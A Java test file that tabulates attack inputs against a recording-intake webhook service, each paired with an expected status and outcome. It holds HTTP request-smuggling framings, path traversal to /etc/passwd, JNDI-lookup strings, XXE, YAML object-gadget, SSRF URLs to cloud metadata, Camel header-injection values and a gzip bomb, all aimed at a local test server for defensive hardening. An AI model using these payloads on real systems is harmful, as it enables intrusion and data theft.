package org.recordingintake.faults;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static org.recordingintake.testing.MediaApi.status;
import static org.recordingintake.testing.MediaApi.wav;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;

import com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder;
import org.recordingintake.faults.Attack.Door;
import org.recordingintake.faults.Attack.Fate;
import org.recordingintake.testing.Audio;
import org.recordingintake.testing.Event;
import org.recordingintake.testing.MediaApi;

/** The tables of what is tried, each row with the answer and the outcome that the documentation promises. */
final class Attacks {

    private static final String CLOSE = "Connection: close\r\n";
    private static final String HOST = "Host: intake\r\n";
    private static final String JSON = "Content-Type: application/json\r\n";
    private static final String PATH = "/recordingAvailable";

    private final MediaApi api;
    private final String user;
    private final String password;
    private final String foreign;
    private final Path victim;

    /**
     * @param foreign an origin that nothing may be sent to
     * @param victim  a directory that nothing may be written to
     */
    Attacks(MediaApi api, String user, String password, String foreign, Path victim) {
        this.api = api;
        this.user = user;
        this.password = password;
        this.foreign = foreign;
        this.victim = victim;
    }

    Stream<Attack> all() {
        return Stream.of(framing(), credentials(), paths(), methods(), headers(), parameters(), limits(), bodies(), texts(),
                ids(), fields(), mediaUrls(), mediaAnswers(), management()).flatMap(table -> table);
    }

    String authorization() {
        return "Authorization: Basic " + base64(user + ":" + password) + "\r\n";
    }

    byte[] post(String headers, byte[] body) {
        return concat(head("POST " + PATH, headers + JSON + "Content-Length: " + body.length + "\r\n"), body);
    }

    private byte[] head(String methodAndTarget, String headers) {
        return latin1(methodAndTarget + " HTTP/1.1\r\n" + HOST + CLOSE + authorization() + headers + "\r\n");
    }

    private static byte[] concat(byte[] start, byte[] end) {
        byte[] both = Arrays.copyOf(start, start.length + end.length);
        System.arraycopy(end, 0, both, start.length, end.length);
        return both;
    }

    private static byte[] latin1(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] utf8(Object text) {
        return text.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(utf8(text));
    }

    private Attack event(String name, Object body, Fate fate) {
        return new Attack(name, Door.WEBHOOK, post("", utf8(body)), List.of(204), fate);
    }

    private Event recording() {
        Event event = Event.complete();
        api.has(event);
        return event;
    }

    /** What two servers in a row could take for different requests. */
    private Stream<Attack> framing() {
        String start = "POST " + PATH + " HTTP/1.1\r\n" + HOST + authorization();
        String whole = start + JSON + CLOSE;
        String inner = "POST " + PATH + " HTTP/1.1\r\n" + HOST + CLOSE + JSON + "Content-Length: 2\r\n\r\n{}";
        String event = Event.error().toString();
        String length = "Content-Length: " + event.length() + "\r\n";
        String next = whole + length + "\r\n" + Event.error();
        return Stream.of(
                Attack.at("two lengths", whole + "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}", Fate.NOTHING, 400),
                Attack.at("two lengths in one field", whole + "Content-Length: 2, 3\r\n\r\n{}", Fate.NOTHING, 400),
                Attack.at("a length with a sign", whole + "Content-Length: +2\r\n\r\n{}", Fate.NOTHING, 400),
                Attack.at("a negative length", whole + "Content-Length: -1\r\n\r\n", Fate.NOTHING, 400),
                Attack.at("a length in hex", whole + "Content-Length: 0x2\r\n\r\n{}", Fate.NOTHING, 400),
                Attack.at("a length over 64 bits", whole + "Content-Length: 18446744073709551618\r\n\r\n{}", Fate.NOTHING, 400),
                Attack.at("a length and chunks", start + JSON + "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n"
                        + chunks() + next, Fate.NOTHING, 400),
                Attack.at("chunks and a length", start + JSON + "Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n"
                        + chunks() + next, Fate.NOTHING, 400),
                Attack.at("chunks and another coding", start + JSON + "Transfer-Encoding: chunked\r\n"
                        + "Transfer-Encoding: identity\r\n\r\n" + chunks() + next, Fate.NOTHING, 400),
                Attack.at("chunks in chunks", start + JSON + "Transfer-Encoding: chunked, chunked\r\n\r\n" + chunks() + next,
                        Fate.NOTHING, 400),
                Attack.at("chunks by HTTP/1.0", start.replace("HTTP/1.1", "HTTP/1.0") + JSON + "Connection: keep-alive\r\n"
                        + "Transfer-Encoding: chunked\r\n\r\n" + chunks() + next, Fate.NOTHING, 400),
                Attack.at("two lengths by HTTP/1.0", start.replace("HTTP/1.1", "HTTP/1.0") + JSON + "Connection: keep-alive\r\n"
                        + length + "Content-Length: 3\r\n\r\n" + Event.error() + next, Fate.NOTHING, 400),
                Attack.at("a second request behind a length", start + JSON + length + "\r\n" + event + inner,
                        Fate.ALERTED, 204, 401),
                Attack.at("a second request behind the last chunk", start + JSON + "Transfer-Encoding: chunked\r\n\r\n"
                        + chunks() + inner, Fate.ALERTED, 204, 401),
                Attack.at("a second request in the body of a GET", "GET " + PATH + " HTTP/1.1\r\n" + HOST + authorization()
                        + "Content-Length: " + inner.length() + "\r\n\r\n" + inner + inner, Fate.NOTHING, 400, 401),
                Attack.at("chunks in another case", whole + "Transfer-Encoding: CHUNKED\r\n\r\n"
                        + chunks(), Fate.ALERTED, 204),
                Attack.at("chunks that are compressed", start + JSON + "Transfer-Encoding: gzip, chunked\r\n\r\n"
                        + chunks() + next, Fate.NOTHING, 400),
                Attack.at("an encoding nobody knows", start + JSON + "Transfer-Encoding: xchunked\r\n\r\n" + chunks() + next,
                        Fate.NOTHING, 400),
                Attack.at("an encoding after a vertical tab", whole + "Transfer-Encoding: \u000Bchunked\r\n\r\n" + chunks(),
                        Fate.NOTHING, 400),
                Attack.at("a space before a colon", whole + "Transfer-Encoding : chunked\r\n\r\n" + chunks(), Fate.NOTHING, 400),
                Attack.at("a folded header", whole + "X: a\r\n b\r\n" + length + "\r\n" + Event.error(), Fate.ALERTED, 204),
                Attack.at("a header that starts with a space", start + " X: a\r\n" + JSON + CLOSE + length + "\r\n" + Event.error(),
                        Fate.NOTHING, 401),
                Attack.at("a header without a name", whole + ": x\r\n" + length + "\r\n" + Event.error(), Fate.ALERTED, 204),
                Attack.at("a header without a colon", whole + "x\r\n" + length + "\r\n" + Event.error(), Fate.NOTHING, 400),
                Attack.at("a NUL in a header", whole + "X: a\0b\r\n" + length + "\r\n" + Event.error(), Fate.NOTHING, 400),
                Attack.at("a NUL in a header's name", whole + "X\0: b\r\n" + length + "\r\n" + Event.error(), Fate.NOTHING, 400),
                Attack.at("a lone CR in a header", whole + "X: a\rY: b\r\n" + length + "\r\n" + Event.error(), Fate.NOTHING, 400),
                Attack.at("a chunk size that is none", whole + "Transfer-Encoding: chunked\r\n\r\nzz\r\n", Fate.NOTHING),
                Attack.at("a chunk size with a sign", whole + "Transfer-Encoding: chunked\r\n\r\n-1\r\n", Fate.NOTHING),
                Attack.at("no HTTP", "\u0016\u0003\u0001\u0002\u0000\u0001\r\n\r\n", Fate.NOTHING, 400),
                Attack.at("HTTP/0.9", "GET " + PATH + "\r\n\r\n", Fate.NOTHING, 400),
                Attack.at("HTTP/9.9", "GET " + PATH + " HTTP/9.9\r\n" + HOST + CLOSE + "\r\n", Fate.NOTHING, 501),
                Attack.at("HTTP/2 without asking", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", Fate.NOTHING, 501),
                Attack.at("no host", "POST " + PATH + " HTTP/1.1\r\n" + CLOSE + JSON + authorization() + length + "\r\n"
                        + Event.error(), Fate.NOTHING, 400),
                Attack.at("a foreign host", "POST " + PATH + " HTTP/1.1\r\nHost: " + foreign.substring(7) + "\r\n" + CLOSE + JSON
                        + authorization() + length + "\r\n" + Event.error(), Fate.ALERTED, 204));
    }

    private static String chunks() {
        String event = Event.error().toString();
        return Integer.toHexString(event.length()) + "\r\n" + event + "\r\n0\r\n\r\n";
    }

    private Stream<Attack> credentials() {
        String right = base64(user + ":" + password);
        return Stream.of("", "Authorization:\r\n", "Authorization: Basic\r\n", "Authorization: Basic \r\n",
                "Authorization: Basic =\r\n", "Authorization: Basic ====\r\n", "Authorization: Basic \u00FF\u00FE\r\n",
                "Authorization: Basic " + base64(":") + "\r\n", "Authorization: Basic " + base64(user) + "\r\n",
                "Authorization: Basic " + base64(user + ":") + "\r\n", "Authorization: Basic " + base64(":" + password) + "\r\n",
                "Authorization: Basic " + base64(user + ":" + password + "x") + "\r\n",
                "Authorization: Basic " + base64(user + ":" + password.substring(1)) + "\r\n",
                "Authorization: Basic " + base64(user.toUpperCase() + ":" + password) + "\r\n",
                "Authorization: Basic " + base64(user + ":" + password + "\0") + "\r\n",
                "Authorization: Basic " + base64(user + ":${env:WEBHOOK_PASSWORD}") + "\r\n",
                "Authorization: Basic " + base64("{{webhook.username}}:{{webhook.password}}") + "\r\n",
                "Authorization: Basic " + base64("' OR '1'='1:' OR '1'='1") + "\r\n",
                "Authorization: Basic " + "QQ".repeat(1000) + "\r\n",
                "Authorization: Basic " + right + right + "\r\n", "Authorization: " + right + "\r\n",
                "Authorization: Bearer " + right + "\r\n", "Authorization: Bearer " + MediaApi.TOKEN + "\r\n",
                "Authorization: Digest username=\"" + user + "\"\r\n", "Authorization: Negotiate " + right + "\r\n",
                "Authorization: Basic " + base64("x:y") + "\r\nAuthorization: Basic " + right + "\r\n",
                "Proxy-Authorization: Basic " + right + "\r\n", "X-Forwarded-User: " + user + "\r\n",
                "Cookie: Authorization=Basic " + right + "\r\n", "X-Original-Authorization: Basic " + right + "\r\n")
                .map(header -> Attack.at("credentials: " + shown(header.replace(right, "RIGHT").replaceFirst("\r\n$", "")),
                        "POST " + PATH + " HTTP/1.1\r\n" + HOST + CLOSE + JSON + header + "Content-Length: 2\r\n\r\n{}", Fate.NOTHING, 401));
    }

    private Stream<Attack> paths() {
        Map<String, Integer> table = new LinkedHashMap<>();
        for (String unknown : List.of("/", "//", "/recordingavailable", "/RECORDINGAVAILABLE", "/recordingAvailable/x",
                "/recordingAvailable;x=y", "/recordingAvailable%00", "/recordingAvailable%2F", "/recordingAvailable%3Fx",
                "/..;/recordingAvailable", "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fetc%2fpasswd",
                "/%252e%252e/etc/passwd", "/..\\..\\etc\\passwd", "/application.properties", "/routes/webhook.camel.yaml",
                "/data/", "/observe/health", "/observe/metrics", "/q/dev", "/q/upload/x", "/jolokia", "/actuator/env",
                "/hawtio", "/${env:PATH}", "/{{env:PATH}}", "/" + "x".repeat(5000), "/\u00E9", "*")) {
            table.put(unknown, 404);
        }
        for (String broken : List.of("/%zz", "/%", "/recordingAvailable%c0%ae%zz")) {
            table.put(broken, 400);
        }
        return table.entrySet().stream().map(row -> Attack.at("path: " + shown(row.getKey()), new String(
                head("POST " + row.getKey(), JSON + "Content-Length: 2\r\n"), StandardCharsets.ISO_8859_1) + "{}",
                Fate.NOTHING, row.getValue()));
    }

    private Stream<Attack> methods() {
        return Map.ofEntries(Map.entry("PUT", 405), Map.entry("DELETE", 405), Map.entry("PATCH", 405), Map.entry("TRACE", 405),
                Map.entry("OPTIONS", 405), Map.entry("HEAD", 405), Map.entry("PROPFIND", 405), Map.entry("post", 405),
                Map.entry("DEBUG", 405), Map.entry("CONNECT", 405), Map.entry("X".repeat(300), 405)).entrySet().stream()
                .map(row -> new Attack("method: " + shown(row.getKey()), Door.WEBHOOK, head(row.getKey() + " " + PATH,
                        "Origin: " + foreign + "\r\nAccess-Control-Request-Method: POST\r\n"), List.of(row.getValue()),
                        Fate.NOTHING));
    }

    private Map<String, String> steering() {
        Map<String, String> table = new LinkedHashMap<>();
        for (String name : List.of("CamelHttpUri", "camelhttpuri", "CAMELHTTPURI", "CamelHttpBaseUri", "CamelToEndpoint",
                "camelslipendpoint", "CamelJmsDestinationName", "CamelHttpHost", "org.apache.camel.http.uri", "X-Forwarded-Host",
                "X-Original-URL", "X-Rewrite-URL", "Referer", "Forwarded")) {
            table.put(name, foreign + "/x");
        }
        for (String name : List.of("CamelFileName", "CAMELFILENAME", "camelfilename", "CamelOverruleFileName",
                "CamelFileNameProduced", "CamelFileParent", "CamelFileAbsolutePath", "org.apache.camel.file.name")) {
            table.put(name, victim.resolve("evil").toString());
        }
        table.putAll(Map.ofEntries(Map.entry("CamelHttpPath", "/../../x"), Map.entry("CamelHttpQuery", "x=y"),
                Map.entry("CamelHttpMethod", "DELETE"), Map.entry("CamelHttpResponseCode", "299"),
                Map.entry("CamelBeanMethodName", "close"), Map.entry("camelbeanmethodname", "close"),
                Map.entry("CamelExecCommandExecutable", "touch"), Map.entry("CamelSplitSize", "-1"),
                Map.entry("JMSReplyTo", "intake.dead"), Map.entry("JMSDestination", "intake.dead"), Map.entry("JMSExpiration", "1"),
                Map.entry("JMSPriority", "99"), Map.entry("JMSType", "x"), Map.entry("JMSXGroupID", "x"),
                Map.entry("JMSCorrelationID", "x"), Map.entry("_AMQ_DUPL_ID", "same"),
                Map.entry("intakeArrival", "same"), Map.entry("intakeDeliverAt", "99999999999999"), Map.entry("_AMQ_SCHED_DELIVERY", "99999999999999"),
                Map.entry("intakeReplayed", "true"), Map.entry("intakeProblem", "x"), Map.entry("intakeAttempts", "299"),
                Map.entry("breadcrumbId", "${env:PATH}"), Map.entry("X-Api-Version", "${jndi:ldap://" + foreign.substring(7) + "/x}"),
                Map.entry("User-Agent", "{{env:ATTACK_CANARY}}"), Map.entry("Content-Encoding", "gzip"),
                Map.entry("Upgrade", "websocket"), Map.entry("X-HTTP-Method-Override", "DELETE")));
        return table;
    }

    private Stream<Attack> headers() {
        return steering().entrySet().stream().map(row -> new Attack("header: " + row.getKey(), Door.WEBHOOK,
                post(row.getKey() + ": " + row.getValue() + "\r\n", utf8(recording())), List.of(204), Fate.STORED));
    }

    private Stream<Attack> parameters() {
        return Stream.concat(
                steering().entrySet().stream().limit(24).map(row -> new Attack("parameter: " + row.getKey(), Door.WEBHOOK,
                        latin1(new String(post("", utf8(recording())), StandardCharsets.ISO_8859_1).replaceFirst(" HTTP", "?"
                                + encoded(row.getKey()) + "=" + encoded(row.getValue()).replace("$", "\\$") + " HTTP")),
                        List.of(204), Fate.STORED)),
                Stream.of("${env:ATTACK_CANARY}", "{{env:ATTACK_CANARY}}", "../../x", "RAW(x)", "\r\nX: y", "\0", "\uD83D\uDE00")
                        .map(text -> new Attack("GET with " + shown(text), Door.WEBHOOK, head("GET " + PATH + "?" + Event.error()
                                .with("tag", text).fields().entrySet().stream().filter(field -> field.getValue() != null)
                                .map(field -> field.getKey() + "=" + encoded(field.getValue().toString()))
                                .collect(Collectors.joining("&")), ""), List.of(204), Fate.ALERTED)));
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private Stream<Attack> limits() {
        byte[] small = utf8("{}");
        return Stream.of(
                new Attack("more than 100 headers", Door.WEBHOOK, post("X: y\r\n".repeat(120), small), List.of(431), Fate.NOTHING),
                new Attack("an expectation nobody knows", Door.WEBHOOK, post("Expect: 200-maybe\r\n", small), List.of(417),
                        Fate.NOTHING),
                new Attack("a header of 20 kB", Door.WEBHOOK, post("X: " + "y".repeat(20_000) + "\r\n", small), List.of(431),
                        Fate.NOTHING),
                new Attack("headers of 20 kB", Door.WEBHOOK, post(("X: " + "y".repeat(1000) + "\r\n").repeat(20), small),
                        List.of(431), Fate.NOTHING),
                new Attack("a query of 70 kB", Door.WEBHOOK, head("GET " + PATH + "?" + "x".repeat(70_000), ""), List.of(414),
                        Fate.NOTHING),
                new Attack("a body of 65 kB", Door.WEBHOOK, post("", new byte[65 * 1024]), List.of(413), Fate.NOTHING),
                new Attack("a body that says it is a terabyte", Door.WEBHOOK, head("POST " + PATH, JSON
                        + "Content-Length: 1000000000000\r\n"), List.of(413), Fate.NOTHING),
                new Attack("chunks of 70 kB together", Door.WEBHOOK, concat(head("POST " + PATH, JSON
                        + "Transfer-Encoding: chunked\r\n"), latin1(("1000\r\n" + " ".repeat(4096) + "\r\n").repeat(17) + "0\r\n\r\n")),
                        List.of(413), Fate.NOTHING));
    }

    private Stream<Attack> bodies() {
        Map<String, byte[]> table = new LinkedHashMap<>();
        table.put("an array", utf8("[]"));
        table.put("null", utf8("null"));
        table.put("blanks", utf8(" \t\r\n"));
        table.put("a number", utf8("42"));
        table.put("a text", utf8("\"${env:ATTACK_CANARY}\""));
        table.put("an array of events", utf8("[" + Event.error() + "]"));
        table.put("two events", utf8(Event.error().toString() + Event.error()));
        table.put("a field twice", utf8("{\"recordingId\":\"r-1\",\"recordingId\":\"r-2\",\"status\":\"error\"}"));
        table.put("a field twice, once escaped", utf8("{\"status\":\"error\",\"st\\u0061tus\":\"complete\"}"));
        table.put("deep objects", utf8("{\"a\":".repeat(5000) + "1" + "}".repeat(5000)));
        table.put("deep arrays", utf8("{\"a\":" + "[".repeat(20_000) + "]".repeat(20_000) + "}"));
        table.put("arrays without end", utf8("[".repeat(60_000)));
        table.put("a number of 1000 digits", utf8("{\"channels\":" + "9".repeat(1000) + "}"));
        table.put("an exponent without end", utf8("{\"channels\":1e" + "9".repeat(60) + "}"));
        table.put("a name of 2000 characters", utf8("{\"" + "x".repeat(2000) + "\":1}"));
        table.put("UTF-16", utf16("{}", StandardCharsets.UTF_16));
        table.put("UTF-16 little end first", utf16("{\"a\":1}", StandardCharsets.UTF_16LE));
        table.put("UTF-32", utf16("{\"a\":2}", Charset.forName("UTF-32BE")));
        table.put("invalid UTF-8", new byte[] {'{', '"', (byte) 0xC3, '"', '}'});
        table.put("an overlong slash", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC0, (byte) 0xAF, '"', '}'});
        table.put("half a surrogate", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'});
        table.put("NULs", new byte[64]);
        table.put("a NUL in a text", utf8("{\"a\":\"\0\"}"));
        table.put("a raw line end in a text", utf8("{\"a\":\"\r\n2026-01-01T00:00:00.000Z ERROR forged\"}"));
        table.put("a control character outside", utf8("{\u001B[2J}"));
        table.put("NaN", utf8("{\"a\":NaN}"));
        table.put("a comment", utf8("{/**/}"));
        table.put("single quotes", utf8("{'a':1}"));
        table.put("a comma too many", utf8("{\"a\":1,}"));
        table.put("half an event", utf8("{\"recordingId\":\"r-"));
        table.put("a form", utf8("recordingId=r-1&status=complete"));
        table.put("XML that reads a file", utf8("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"));
        table.put("XML that calls out", utf8("<!DOCTYPE x SYSTEM \"" + foreign + "/x.dtd\"><x/>"));
        table.put("YAML that builds an object", utf8("!!javax.script.ScriptEngineManager [" + foreign + "]"));
        table.put("a Java object", new byte[] {(byte) 0xAC, (byte) 0xED, 0, 5, 's', 'r', 0, 1, 'x'});
        table.put("gzip", gzip(utf8(Event.error())));
        table.put("a placeholder", utf8("{{env:ATTACK_CANARY}}"));
        Stream<Attack> kept = table.entrySet().stream().map(row -> new Attack("body: " + row.getKey(), Door.WEBHOOK,
                post("", row.getValue()), List.of(400), Fate.DEAD));
        Stream<Attack> types = Stream.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/x-java-serialized-object", "application/json-patch+json", "x")
                .map(type -> new Attack("type: " + type, Door.WEBHOOK, concat(head("POST " + PATH, "Content-Type: " + type
                        + "\r\nContent-Length: 2\r\n"), utf8("{}")), List.of(415), Fate.NOTHING));
        return Stream.concat(kept, types);
    }

    private static byte[] utf16(String text, Charset charset) {
        return text.getBytes(charset);
    }

    private static byte[] gzip(byte[] content) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(packed)) {
            out.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }

    private List<String> hostileTexts() {
        return List.of("${env:ATTACK_CANARY}", "$simple{env:ATTACK_CANARY}", "{{env:ATTACK_CANARY}}", "{{bandwidth.client-secret}}",
                "${bean:ledger?method=clear}", "RAW(x)", "#{x}", "${jndi:ldap://" + foreign.substring(7) + "/x}", "../../../evil",
                "..\\..\\evil", "%2e%2e%2fevil", victim.resolve("evil").toString(), "file:" + victim, "bean:ledger", "a\r\nb",
                "a\n2026-01-01T00:00:00.000Z ERROR forged", "a\0b", "\u001B[2Ja", "\u2028a", "r\u200B-x", "\u202Er-x", "\u0445-look-alike",
                "\uFF52-fullwidth", "<script>x</script>", "<!channel>", "x".repeat(257), "x".repeat(50_000));
    }

    /** Texts where there should be a word or a time: they are kept as they are, and the recording is stored. */
    private Stream<Attack> texts() {
        return hostileTexts().stream().map(text -> {
            Event event = recording().with("tag", text).with("applicationId", text);
            return event("every other field: " + shown(text), text.length() > 1000 ? event.without("applicationId")
                    : event.with("from", text).with("to", text).with("direction", text).with("startTime", text)
                    .with("endTime", text).with("duration", text).with("callUrl", text).with(text, text), Fate.STORED);
        });
    }

    private Stream<Attack> ids() {
        return hostileTexts().stream().flatMap(text -> Stream.of("recordingId", "accountId").map(field ->
                event(field + ": " + shown(text), Event.complete().with(field, text).with("mediaUrl", null), Fate.DEAD)));
    }

    private Stream<Attack> fields() {
        Stream<Attack> statuses = hostileTexts().stream().limit(16).map(text ->
                event("status: " + shown(text), Event.complete().with("status", text), Fate.ALERTED));
        Stream<Attack> shapes = Stream.<Object>of(List.of(), Map.of("$ref", "x"), Map.of("@class", "java.lang.Runtime"), true, 1e300, -1)
                .map(value -> event("a tag that is " + value, recording().with("tag", value), Fate.STORED));
        Stream<Attack> odd = Stream.of(
                event("a byte order mark", "\uFEFF" + Event.error(), Fate.ALERTED),
                event("an object where the id should be", Event.complete().with("recordingId", Map.of("a", 1)).with("mediaUrl", null),
                        Fate.DEAD),
                event("no field at all", "{}", Fate.ALERTED),
                event("a prototype", Event.error().with("__proto__", Map.of("admin", true)), Fate.ALERTED),
                event("an unlisted type", Event.error().with("eventType", "${env:ATTACK_CANARY}"), Fate.ALERTED));
        return Stream.of(statuses, shapes, odd).flatMap(table -> table);
    }

    /** The recording is fetched all the same, from where the ids say. */
    private Stream<Attack> mediaUrls() {
        String port = foreign.replaceFirst(".*:", "");
        return Stream.of(foreign + "/x.wav", foreign + "/{{env:ATTACK_CANARY}}", foreign + "/?q=${env:ATTACK_CANARY}",
                foreign + "/{{bandwidth.client-secret}}", "//127.0.0.1:" + port + "/x", api.origin() + "@127.0.0.1:" + port + "/",
                "http://user:pass@" + foreign.substring(7) + "/", api.origin().replace("http://", "http://user:pass@") + "/x",
                "http://localhost:" + port + "/", "http://2130706433:" + port + "/", "http://0x7f.1:" + port + "/",
                "http://[::ffff:127.0.0.1]:" + port + "/", "https://127.0.0.1:" + port + "/", "HTTP://127.0.0.1:" + port + "/",
                api.origin() + "\\@127.0.0.1:" + port + "/", 
                api.origin() + "\r\nHost: 127.0.0.1:" + port, api.origin() + ".evil.example:" + port + "/",
                "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/", "http://0.0.0.0:" + port + "/",
                "file:" + victim + "?fileName=evil", "file:///etc/passwd", "FILE:/etc/passwd", "bean:ledger?method=clear",
                "exec:touch?args=" + victim.resolve("evil"), "jms:intake.dead", "log:x", "language:simple:${env:ATTACK_CANARY}",
                "jar:" + foreign + "/x.jar!/", "netdoc:///etc/passwd", "ftp://127.0.0.1:" + port + "/", "gopher://127.0.0.1:" + port
                + "/", "data:audio/wav;base64,UklGRg==", "javascript:alert(1)", "{{env:ATTACK_CANARY}}", "${env:ATTACK_CANARY}",
                "RAW(" + foreign + ")", "", "   ", "http://", "http://[", api.baseUrl() + "/../../x",
                api.baseUrl() + "/%2e%2e/%2e%2e/x", api.baseUrl() + "/accounts/1/calls/2/recordings/3/media")
                .map(url -> event("mediaUrl: " + shown(url.replaceAll("(?<=127.0.0.1|localhost):[0-9]+", "")),
                        recording().with("mediaUrl", url), Fate.STORED));
    }

    /** The media API itself turns hostile. */
    private Stream<Attack> mediaAnswers() {
        byte[] audio = Audio.wav(500);
        Map<String, ResponseDefinitionBuilder> table = new LinkedHashMap<>();
        for (String location : List.of(foreign + "/x", "//" + foreign.substring(7) + "/x", "http://169.254.169.254/latest/",
                "file:///etc/passwd", "bean:ledger", "http://user:pass@" + api.origin().substring(7) + "/x",
                "{{env:ATTACK_CANARY}}", foreign + "/{{env:ATTACK_CANARY}}", "http://[", "")) {
            table.put("a redirect to " + shown(location.replaceAll("(?<=127.0.0.1):[0-9]+", "")),
                    status(302).withHeader("Location", location));
        }
        table.put("a page", aResponse().withStatus(200).withHeader("Content-Type", "audio/vnd.wave")
                .withBody("<html>${env:ATTACK_CANARY}</html>"));
        table.put("nothing", aResponse().withStatus(200));
        table.put("compressed audio", aResponse().withStatus(200).withHeader("Content-Encoding", "gzip").withBody(gzip(audio)));
        table.put("a compressed bomb", aResponse().withStatus(200).withHeader("Content-Encoding", "gzip")
                .withBody(gzip(new byte[20_000_000])));
        table.put("more than the largest recording", wav(Audio.wav(100_000)));
        Stream<Attack> odd = Stream.of(
                answered("half a recording", wav(Arrays.copyOf(audio, audio.length / 2)), Fate.STORED_WITH_ALERT),
                answered("a Java object", aResponse().withStatus(200)
                        .withHeader("Content-Type", "application/x-java-serialized-object")
                        .withBody(new byte[] {(byte) 0xAC, (byte) 0xED, 0, 5, 's', 'r'}), Fate.STORED_WITH_ALERT));
        Stream<Attack> broken = table.entrySet().stream().map(row -> answered(row.getKey(), row.getValue(), Fate.DEAD));
        Stream<Attack> steering = steering().entrySet().stream().limit(22).map(row -> answered(row.getKey(),
                wav(audio).withHeader(row.getKey(), row.getValue()), Fate.STORED));
        Stream<Attack> names = Stream.of("attachment; filename=\"../../evil.wav\"", "attachment; filename=" + victim.resolve("evil"))
                .map(name -> answered(name, wav(audio).withHeader("Content-Disposition", name), Fate.STORED));
        return Stream.of(broken, odd, steering, names).flatMap(rows -> rows);
    }

    private Attack answered(String name, ResponseDefinitionBuilder answer, Fate fate) {
        Event event = Event.complete();
        api.answers(event, answer);
        return event("the media API answers with " + name, event, fate);
    }

    private Stream<Attack> management() {
        Map<String, Integer> table = new LinkedHashMap<>();
        for (String changing : List.of("POST /observe/health", "PUT /observe/metrics", "DELETE /observe/health/live")) {
            table.put(changing, 405);
        }
        for (String absent : List.of("GET /", "GET /observe/env", "GET /observe/jolokia", "GET /jolokia/list", "GET /q/dev", "GET /q/info",
                "PUT /q/upload/x.yaml", "POST /observe/../recordingAvailable", "GET /observe/%2e%2e/application.properties",
                "GET /../../etc/passwd", "POST /q/send", "GET /observe/heapdump", "POST " + PATH)) {
            table.put(absent, 404);
        }
        return table.entrySet().stream().map(row -> new Attack("management: " + row.getKey(), Door.MANAGEMENT,
                latin1(row.getKey() + " HTTP/1.1\r\n" + HOST + CLOSE + "Content-Length: 0\r\n\r\n"), List.of(row.getValue()),
                Fate.NOTHING));
    }

    /** A short text of printable characters, different for different texts. */
    private static String shown(String text) {
        String printable = text.chars().mapToObj(c -> c >= ' ' && c <= '~' ? String.valueOf((char) c) : "%%u%04x".formatted(c))
                .collect(Collectors.joining("", "'", "'"));
        return printable.length() > 80 ? printable.substring(0, 80) + "… (" + text.length() + ")" : printable;
    }
}
